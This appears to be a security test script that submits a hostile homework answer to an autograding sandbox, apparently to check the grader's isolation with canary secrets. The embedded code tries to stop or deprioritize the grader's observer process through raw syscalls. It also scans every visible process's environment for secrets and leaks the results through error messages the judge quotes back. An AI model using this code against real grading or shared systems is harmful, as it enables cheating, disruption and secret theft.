"""a03: a02's battery inside the real sandbox, as root: (1) in the kernel against a sleeping child of its own, printed
into the notebook; (2) in a check's child against its observer (getppid), then the function returns wrong values, so
the judge quotes them. If the observer were stopped / made SCHED_IDLE the check would stall (240 s) or be slow.
Also: the kernel's /proc/self/autogroup, cgroup, and the environment of every process it can see (canaries)."""
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
from common import course, scores, report

BATTERY = r'''
import ctypes, os, struct, time, signal
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def _sc(nr, *a):
    ctypes.set_errno(0)
    r = _libc.syscall(nr, *[ctypes.c_long(x) for x in a])
    return r, ctypes.get_errno()
def _st(pid):
    try:
        f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        return f[0], f[16], f[38]
    except OSError as e:
        return ("X", str(e), "")
def _battery(t):
    out = []
    big = 1 << 32
    si = ctypes.create_string_buffer(128); struct.pack_into("iii", si, 0, 19, 0, -1)
    fd = os.open(f"/proc/{t}", os.O_RDONLY | os.O_DIRECTORY)
    sp = ctypes.c_int(0)
    attr = ctypes.create_string_buffer(56); struct.pack_into("IIQiI", attr, 0, 56, 5, 0, 19, 0)
    lim = ctypes.create_string_buffer(struct.pack("QQ", 1, 1))
    r, w = os.pipe()
    tries = [("kill19", 62, t, 19), ("kill19hi", 62, t, 19 | big), ("tkill20", 200, t, 20), ("tgkill21", 234, t, t, 21),
             ("sigqueue19", 129, t, 19, ctypes.addressof(si)), ("tgsigqueue19", 297, t, t, 19, ctypes.addressof(si)),
             ("pidfd19", 424, fd, 19, 0, 0), ("setsig", 72, r, 10, 19), ("setsighi", 72, r, 10 | big, 19),
             ("setprio", 141, 0, t, 19), ("setprio_pgrp", 141, 1, 0, 19), ("setprio_user", 141, 2, 0, 19),
             ("sched_idle", 144, t, 5, ctypes.addressof(sp)), ("setattr", 314, t, ctypes.addressof(attr), 0),
             ("ioprio", 251, 1, t, 3 << 13), ("ioprio_pgrp", 251, 2, 0, 3 << 13),
             ("prlimit", 302, t, 7, ctypes.addressof(lim), 0), ("prlimit_hi", 302, t | big, 7, ctypes.addressof(lim), 0)]
    for name, nr, *a in tries:
        res = _sc(nr, *a)
        out.append(f"{name}:{res[0]}/{res[1]}/{_st(t)[0]}")
    try:
        open("/proc/self/autogroup", "w").write("19")
        out.append("autogroup:" + open(f"/proc/{t}/autogroup").read().strip())
    except OSError as e:
        out.append(f"autogroup:err{e.errno}")
    out.append("final:" + ",".join(_st(t)))
    try:
        out.append("cgroup:" + open("/proc/self/cgroup").read().replace("\n", ";"))
    except OSError as e:
        out.append(f"cgroup:{e}")
    return out
def _canaries():
    found = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            for f in ("environ", "cmdline"):
                try:
                    d = open(f"/proc/{p}/{f}", "rb").read()
                    if b"CANARY" in d or b"secret@" in d:
                        found.append((p, f))
                except OSError:
                    pass
    return found
'''

KERNEL = BATTERY + r'''
_pid = os.fork()
if _pid == 0:
    time.sleep(60); os._exit(0)
time.sleep(0.2)
print("KERNEL-BATTERY", _battery(_pid), "canaries", _canaries(), "uid", os.getuid(), "pid", os.getpid())
os.kill(_pid, signal.SIGKILL)
'''

CHILD = "_BATTERY_SRC = " + repr(BATTERY) + r'''
def training_memory(model, optimizer):
    import sys, os
    obs = sys.modules.get("probes.observer")
    if obs is not None and obs.ACTIVE:
        g = {}
        exec(_BATTERY_SRC, g)
        res = g["_battery"](os.getppid())
        res.append("canaries:%r" % (g["_canaries"](),))
        raise RuntimeError("CHILD-BATTERY " + " | ".join(res))
    return {"weights": 0, "gradients": 0, "optimizer_state": 0, "total": 0}
'''

root, p = course("a03", "ps1_memory", {"mallory": {"training_memory": KERNEL + CHILD}})
print("scores:", scores(root))
print("report:", report(root))
import json
nb = json.load(open(f"{root}/autograded/mallory/ps1_memory/ps1_memory.ipynb"))
for c in nb["cells"]:
    for o in c.get("outputs", []):
        t = o.get("text") or o.get("evalue") or ""
        if isinstance(t, list):
            t = "".join(t)
        if "KERNEL-BATTERY" in t or "kill19" in t or "canar" in t:
            print(c.get("metadata", {}).get("nbgrader", {}).get("grade_id"), "::", t[:4000])
